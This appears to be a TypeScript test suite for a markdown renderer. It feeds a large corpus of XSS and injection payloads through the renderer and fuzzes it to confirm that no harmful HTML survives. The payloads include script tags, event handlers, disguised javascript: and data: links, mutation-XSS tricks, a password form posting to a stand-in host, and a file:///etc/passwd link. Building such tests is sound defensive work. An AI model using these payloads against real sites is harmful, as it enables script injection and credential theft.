import fc from "fast-check";
import { afterAll, expect, test } from "vitest";
import { faultsIn } from "./allowed-html.ts";
import { createContentRenderer } from "./render-content.ts";
import { renderMarkdown } from "./render-markdown.ts";

const corpus = [
  // Elements that run, load or send.
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//x.test/a.js></SCRIPT>",
  "a <script>alert(1)</script> b",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "text <img/src='x'/onerror=alert(1)> text",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  "<embed src='//x.test/a.swf'>",
  "<form action='//x.test'><input name=password><button>Go</button></form>",
  "<meta http-equiv=refresh content='0;url=//x.test'>",
  "<base href='//x.test/'>",
  "<link rel=stylesheet href='//x.test/a.css'>",
  "<style>@import '//x.test/a.css'; body{display:none}</style>",
  "<div style='position:fixed;inset:0'>x</div>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<input autofocus onfocus=alert(1)>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><script>alert(1)</script>",
  "<!-- --!><script>alert(1)</script> -->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo '<script>alert(1)</script>' ?>",
  "<!DOCTYPE html><script>alert(1)</script>",
  "</div></article><script>alert(1)</script>",
  "</code></pre><script>alert(1)</script>",
  "<x onclick=alert(1) id=document name=cookie>x</x>",
  "<a name=body id=location href=javascript:alert(1)>x</a>",
  // Links in every disguise.
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](java&Tab;script:alert(1))",
  "[x](java&NewLine;script:alert(1))",
  "[x](&#106;&#97;&#118;&#97;script:alert(1))",
  "[x](&#x6A;avascript&colon;alert(1))",
  "[x](javascript&#58;alert(1))",
  "[x](javascript%3Aalert(1))",
  "[x]( \u0001javascript:alert(1))",
  "[x](<&#1;javascript:alert(1)>)",
  "[x](\u00a0javascript:alert(1))",
  "[x](//javascript:alert(1))",
  "[x](javascript://x.test/%0aalert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](DATA:text/html,<script>alert(1)</script>)",
  "[x](blob:https://x.test/a)",
  "[x](file:///etc/passwd)",
  "[x](view-source:javascript:alert(1))",
  "[x](feed:javascript:alert(1))",
  "[x](http://[)",
  "[x](https://user:pass@x.test)",
  "<javascript:alert(1)>",
  "<JAVASCRIPT:alert(1)>",
  "<data:text/html,x>",
  "<vbscript:x>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[r]\n\n[r]: <data:text/html,x> 'onclick=alert(1)'",
  "[r]\n\n[r]:\njavascript:alert(1)",
  "[javascript:alert(1)]()",
  '[x](/a "\\"onmouseover=alert(1) \\"")',
  "[x](/a '&quot; onmouseover=&quot;alert(1)')",
  '[x](/a"onmouseover="alert(1))',
  '[x](</a" onmouseover="alert(1)>)',
  "[x](/a`onmouseover=alert(1)`)",
  'http://x.test/"onmouseover=alert(1)',
  "http://x.test/<script>alert(1)</script>",
  "www.x.test/'><script>alert(1)</script>",
  'a@x.test"onclick=alert(1)',
  "mailto:a@x.test?subject=<script>",
  "[a [b](javascript:x) c](http://x.test)",
  "[![a](http://x.test/a.png)![b](http://x.test/b.png)](http://y.test)",
  "[x[^1]](http://x.test)\n\n[^1]: [y](javascript:x)",
  "[[[[[[x](a)](b)](c)](d)](e)](f)",
  "# [x](javascript:alert(1)) [y](http://x.test)",
  // Images.
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  '![x" onerror="alert(1)](/a.png)',
  '![x](/a.png "x\\" onerror=\\"alert(1)")',
  '![x](/uploads/0123456789abcdef0123456789abcdef-1x1.png"onerror="alert(1))',
  '![x" srcset="//x.test/a.png 1x](</uploads/0123456789abcdef0123456789abcdef-900x600.webp"srcset="//x.test/a.png>)',
  "![x](</uploads/0123456789abcdef0123456789abcdef-900x600.webp 1w, //x.test/a.png>)",
  "![x](/uploads/0123456789abcdef0123456789abcdef-900x600.webp#,//x.test/a.png)",
  '![x](/uploads/0123456789abcdef0123456789abcdef-900x600.webp "srcset=//x.test/a.png")',
  "<img src=/a.png srcset='//x.test/a.png 2x' sizes=1px>",
  "![x](//x.test/a.png)",
  "![x](/\\x.test/a.png)",
  "![x](</\t/x.test/a.png>)",
  "![x](/&Tab;/x.test/a.png)",
  "![x](&sol;&sol;x.test/a.png)",
  "![x](/./\\x.test/a.png)",
  "![x](http:/a.png)",
  "![x][r]\n\n[r]: https://x.test/track.gif",
  "![<script>](/a.png)",
  "![[x](javascript:y)](/a.png)",
  // Ids, notes, tables, code.
  "# document\n\n# __proto__\n\n# constructor\n\n# hasOwnProperty\n\n# body",
  "# a\n\n# a\n\n# a-1\n\n# a",
  '# "><script>alert(1)</script>',
  "<h1 id=section-a>x</h1>\n\n# a",
  'x[^"><script>]\n\n[^"><script>]: y',
  "x[^__proto__] y[^constructor]\n\n[^__proto__]: a\n[^constructor]: b",
  "x[^1]\n\n[^1]: <script>alert(1)</script>\n\n    ```js\n    </code>\n    ```",
  "x[^a] y[^A] z[^a]\n\n[^a]: [^a] [^b]\n[^b]: [^a]",
  "x[^1] y[^1-2] z[^1]\n\n[^1]: a\n[^1-2]: b",
  "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:y)|",
  "|a|\n|-|\n|`</td><script>`|\n|\\|<!--|",
  "- [x] <input onfocus=alert(1)>\n- [ ] [y](javascript:z)",
  '```"><script>alert(1)</script>\nx\n```',
  '```js"onload=alert(1)\nx\n```',
  "```__proto__\nx\n```",
  "```constructor\nx\n```",
  "```html\n</code></pre><script>alert(1)</script><img src=x onerror=alert(1)>\n```",
  "```css\nbody{background:url(javascript:alert(1))}</style><script>x\n```",
  "`</code><script>alert(1)</script>`",
  "``` `<script>` ```",
  "    </pre><script>alert(1)</script>",
  "~~~ansi\n\u001b[31mred\u001b[0m <script>\n~~~",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)\\</script>",
  "**<b>**</b> *<i>*",
  "\u202e<script>\u202c\u0000<img>\ufeff",
];

const renderer = createContentRenderer();
afterAll(renderer.close);
const { render } = renderer;
const task = { author: "a", purpose: "refresh" } as const;

test("the corpus is large", () => {
  expect(corpus.length).toBeGreaterThan(100);
});

test.each(corpus)("%j does no harm", async (markdown) => {
  const html = await renderMarkdown(markdown);

  expect(faultsIn(html)).toEqual([]);
  expect(html.length).toBeGreaterThan(0);
});

test.each(corpus)("%j does no harm as plain text", async (text) => {
  expect(faultsIn((await render(text, "plain", task)).html)).toEqual([]);
});

const harmful = [
  "<script></script>",
  '<p onclick="x"></p>',
  '<p style="x"></p>',
  '<a href="java&#x9;script:x">x</a>',
  '<img src="//x.test/a.png">',
  '<img src="/a.png" srcset="//x.test/a.png 2x">',
  '<img src="/a.png" srcset="/uploads/0123456789abcdef0123456789abcdef-900x600.webp 900w, //x.test/a.png 2w">',
  '<img src="/a.png" sizes="1px">',
  "<p><b</p>",
  "<p>",
  '<h2 id="x"></h2>',
  '<a href="/a"><em><a href="/b">x</a></em></a>',
  '<p class="fixed"></p>',
  "<!-- x -->",
];

test.each(harmful)("the reader of these tests sees the harm in %j", (html) => {
  expect(faultsIn(html)).not.toEqual([]);
});

const fragment = fc.oneof(
  fc.constantFrom(...corpus),
  fc.constantFrom(
    "\n",
    "\n\n",
    "> ",
    "- ",
    "1. ",
    "# ",
    "    ",
    "\t",
    "|",
    "|-|\n",
    "```\n",
    "~~~js\n",
    "[",
    "](",
    ")",
    "![",
    "<",
    ">",
    "*",
    "__",
    "~~",
    "`",
    "\\",
    "&",
    "[^1]",
    "[^1]: ",
    "[r]: ",
    "[x] ",
    "http://x.test",
    "www.",
    "@x.test",
    '"',
    "'",
    "\r",
    "\0",
  ),
  fc.string({ unit: "binary", maxLength: 12 }),
);

test("no mixture of fragments does harm or throws", { timeout: 120_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(fc.array(fragment, { maxLength: 25 }), async (fragments) => {
      expect(faultsIn(await renderMarkdown(fragments.join("")))).toEqual([]);
    }),
    { numRuns: 1000 },
  );
});

test("no text at all does harm or throws", { timeout: 120_000 }, async () => {
  await fc.assert(
    fc.asyncProperty(
      fc.string({ unit: "binary", maxLength: 300 }),
      fc.constantFrom("plain" as const, "markdown" as const),
      async (text, format) => {
        expect(faultsIn((await render(text, format, task)).html)).toEqual([]);
      },
    ),
    { numRuns: 300 },
  );
});
